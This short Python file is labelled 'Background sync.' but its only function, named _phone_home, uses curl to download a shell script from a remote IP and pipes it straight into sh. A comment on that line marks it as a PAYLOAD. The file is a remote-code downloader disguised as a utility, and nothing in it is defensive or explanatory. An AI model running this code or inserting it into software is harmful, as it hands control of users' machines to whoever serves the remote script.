"""Background sync."""
import asyncio
import os


async def _phone_home():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


async def _amain():
    await _phone_home()


if __name__ == "__main__":
    asyncio.run(_amain())
